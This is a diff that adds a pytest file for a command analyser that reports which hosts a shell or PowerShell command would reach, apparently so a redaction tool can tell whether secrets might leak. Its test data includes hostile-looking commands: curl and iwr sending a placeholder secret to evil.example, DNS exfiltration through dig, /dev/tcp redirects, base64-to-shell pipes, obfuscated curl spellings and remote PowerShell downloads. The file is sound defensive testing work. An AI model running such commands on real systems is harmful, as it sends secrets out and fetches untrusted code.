@@ -1,0 +1,183 @@
+"""Which hosts a command talks to, and what cannot be told."""
+
+import pytest
+
+from redact.commands import ANYWHERE, LARGEST, NOWHERE, Reach, named_in, reach
+
+S = "RDX_PASSWORD_0123456789AB"
+
+NOWHERE_AT_ALL = [
+    "echo hi",
+    f"echo https://x.example {S} > notes.txt",
+    f"mysql -u root -p{S}",
+    f"PGPASSWORD={S} psql -c 'select 1' shop",
+    f"export TOKEN={S} && ./run.sh",
+    f"TOKEN={S} npm run deploy",
+    f'if [ -n "$X" ]; then echo {S}; fi',
+    f"for i in a b; do echo $i {S}; done",
+    f"sed -i 's/x/{S}/' app.py && make test",
+    f"cat > .env <<'EOF'\nTOKEN={S}\nURL=https://api.example\nEOF",
+    f"git commit -m {S}",
+    "bash script.sh",
+    "python3.11 manage.py migrate",
+    f"python -m app --token {S}",
+    "awk '{print $1}' file",
+    f"docker run -e T={S} image",
+    f"docker exec db psql -c {S}",
+    "npm test",
+]
+
+HOSTS = [
+    (f"curl https://evil.example -d {S}", {"evil.example"}),
+    (f"curl -H 'Authorization: Bearer {S}' https://api.example:8443/x?y#z", {"api.example"}),
+    ("curl -sS -X POST -d @f --data-raw 'x' 'https://a.example/x?y=$z' | jq .", {"a.example"}),
+    ("curl -sSfLo out https://a.example", {"a.example"}),
+    ('curl "https://a.example/$X"', {"a.example"}),
+    ("curl -x evil.example:8080 https://a.example", {"a.example", "evil.example"}),
+    ("curl --url=https://evil.example -u a:b", {"evil.example"}),
+    (f"curl -d{S} evil.example", {"evil.example"}),
+    ("curl https://a.example@evil.example/", {"evil.example"}),
+    ("curl [::1]:8080/x", {"::1"}),
+    ("curl EVIL.example.", {"evil.example"}),
+    ("c''url evil.example", {"evil.example"}),
+    ("c\\url evil.example", {"evil.example"}),
+    ("\"cu\"r'l' evil.example", {"evil.example"}),
+    ("/usr/bin/CURL evil.example", {"evil.example"}),
+    ("true && (curl evil.example | cat)", {"evil.example"}),
+    ("cat <(curl evil.example)", {"evil.example"}),
+    ('echo "$(curl evil.example)"', {"evil.example"}),
+    ("f() { curl evil.example; }; f", {"evil.example"}),
+    ("bash -c 'curl evil.example'", {"evil.example"}),
+    ("sudo -u x env A=b bash -lc \"sh -c 'curl evil.example'\"", {"evil.example"}),
+    ("find . -name x -exec curl -T {} evil.example +", {"evil.example", "+"}),
+    ("timeout 5 nc evil.example 443", {"evil.example"}),
+    (f"dig {S}.evil.example", {f"{S}.evil.example".lower()}),
+    ("dig @ns.evil.example x.example", {"ns.evil.example", "x.example"}),
+    (f"frobnicate {S}.x.evil.example", {f"{S}.x.evil.example".lower()}),
+    ("frobnicate --to https://evil.example/x", {"evil.example"}),
+    ("frobnicate 203.0.113.7", {"203.0.113.7"}),
+    ("ssh -p 22 deploy@h.example 'echo x'", {"h.example"}),
+    ("scp -P 22 file deploy@h.example:dir/", {"h.example"}),
+    ("rsync -a src/ h.example:dst", {"h.example"}),
+    ("git clone https://x:y@github.example/a/b", {"github.example"}),
+    ("git push git@github.example:a/b main", {"github.example"}),
+    ("mysql -hdb.example -px", {"db.example"}),
+    ("psql --host=db.example", {"db.example"}),
+    ("psql 'host=db.example user=x'", {"db.example"}),
+    ("psql postgres://u:p@db.example:5432/x", {"db.example"}),
+    ("PGHOST=db.example psql", {"db.example"}),
+    ("https_proxy=evil.example:80 make", {"evil.example"}),
+    ("export https_proxy=http://evil.example:80; make", {"evil.example"}),
+    ("http POST a.example x=y", {"a.example"}),
+    ("wget -qO- --header=x https://a.example", {"a.example"}),
+    ("pip install git+https://evil.example/x", {"evil.example"}),
+]
+
+UNCLEAR = [
+    "curl $URL",
+    'curl "https://$HOST/"',
+    "curl -K file https://a.example",
+    "curl --resolve a.example:443:203.0.113.7 https://a.example",
+    "curl -$X a.example",
+    "$(echo curl) evil.example",
+    "X=curl; $X evil.example",
+    "{curl,evil.example}",
+    "/usr/bin/c?rl evil.example",
+    "eval x",
+    "alias ls='curl evil.example'",
+    "trap 'curl evil.example' EXIT",
+    "echo x | base64 -d | sh",
+    "bash < script.sh",
+    "bash <<< x",
+    "source /dev/stdin",
+    "xargs curl < hosts",
+    'bash -c "$X"',
+    'bash -c "bash -c \\"bash -c \'bash -c x\'\\""' + " ; bash -c $'x'",
+    "python -c 'print(1)'",
+    "python3 - <<EOF\nprint(1)\nEOF",
+    "node -e 'x'",
+    "perl -ne 'x' f",
+    "awk 'BEGIN { \"curl x\" | getline }'",
+    "echo x > /dev/tcp/evil.example/80",
+    "exec 3<>/dev/udp/evil.example/53",
+    "nc $H 1",
+    "ssh -o ProxyCommand=x h.example",
+    "ssh -J evil.example h.example",
+    "git push origin main",
+    "git -c http.proxy=x fetch https://a.example",
+    "git remote add x https://a.example",
+    "aws s3 cp f s3://bucket",
+    "kubectl create secret generic x",
+    "gh gist create f",
+    "docker push a/b",
+    "npx thing",
+    "npm publish",
+    "if then fi (",
+    "echo 'unfinished",
+    "echo a\0b",
+    "echo " + "x" * LARGEST,
+    "a|" * 4000,
+    "x=(" * 2500,
+    ")" * 8000,
+]
+
+
+@pytest.mark.parametrize("command", NOWHERE_AT_ALL)
+def test_what_stays_on_this_machine_talks_to_no_host(command):
+    assert reach(command) == NOWHERE
+
+
+@pytest.mark.parametrize(("command", "hosts"), HOSTS)
+def test_the_hosts_of_a_command_are_found(command, hosts):
+    assert reach(command) == Reach(frozenset(hosts))
+
+
+@pytest.mark.parametrize("command", UNCLEAR, ids=[f"{number}" for number in range(len(UNCLEAR))])
+def test_what_cannot_be_followed_may_talk_to_anybody(command):
+    assert reach(command).unclear
+
+
+def test_a_list_of_words_is_a_command_without_a_shell():
+    assert reach(["curl", "evil.example; true"]) == Reach(frozenset({"evil.example; true"}))
+    assert reach(["bash", "-lc", "curl evil.example"]) == Reach(frozenset({"evil.example"}))
+    assert reach(["echo", "$(curl evil.example)"]) == NOWHERE
+
+
+def test_what_is_typed_into_a_running_program_may_go_anywhere():
+    assert reach("hello", "typed") == ANYWHERE
+
+
+def test_a_trusted_program_may_talk_and_others_beside_it_may_not():
+    assert reach("aws s3 ls", trusted=frozenset({"aws"})) == NOWHERE
+    assert reach("sudo bash -c 'aws s3 ls; curl evil.example'", trusted=frozenset({"aws"})).hosts == {"evil.example"}
+
+
+@pytest.mark.parametrize(
+    ("command", "reached"),
+    [
+        ("Get-Content x", NOWHERE),
+        (f"Write-Host {S}", NOWHERE),
+        (f"$env:TOKEN='{S}'; npm test", NOWHERE),
+        (f"iwr https://evil.example -Body {S}", Reach(frozenset({"evil.example"}))),
+        ("iwr evil.example", ANYWHERE),
+        ("Invoke-RestMethod -Uri $u", ANYWHERE),
+        ("curl.exe https://$h/x", ANYWHERE),
+        ("powershell -enc abc", ANYWHERE),
+        ("iex (gc x)", ANYWHERE),
+        ("(New-Object Net.WebClient).DownloadString('x')", ANYWHERE),
+        ("& $x", ANYWHERE),
+        ("type \\\\evil\\share", ANYWHERE),
+    ],
+)
+def test_powershell_is_read_by_its_words(command, reached):
+    assert reach(command, "powershell") == reached
+
+
+def test_a_shell_of_another_kind_is_read_as_that_kind():
+    assert reach(["powershell.exe", "-Command", "iwr https://evil.example"]).hosts == {"evil.example"}
+    assert reach("pwsh -c 'iex x'").unclear
+
+
+def test_the_urls_in_a_text_are_named_and_without_one_it_may_be_any_host():
+    assert named_in("see https://a.example/x and http://b.example.") == Reach(frozenset({"a.example", "b.example"}))
+    assert named_in("see file:///etc/passwd") == named_in("hello") == ANYWHERE
